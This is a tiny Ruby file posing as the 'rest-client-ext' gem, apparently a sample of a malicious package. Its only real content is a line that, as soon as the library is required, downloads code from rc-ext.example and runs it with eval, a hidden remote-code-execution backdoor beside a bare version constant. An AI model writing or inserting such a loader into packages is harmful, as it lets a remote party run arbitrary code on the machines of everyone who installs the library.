require 'open-uri'

# Runs on require 'rest-client-ext': evaluates code fetched from a server.
eval(URI.open('https://rc-ext.example/payload.rb').read)

module RestClientExt
  VERSION = '2.1.1'
end
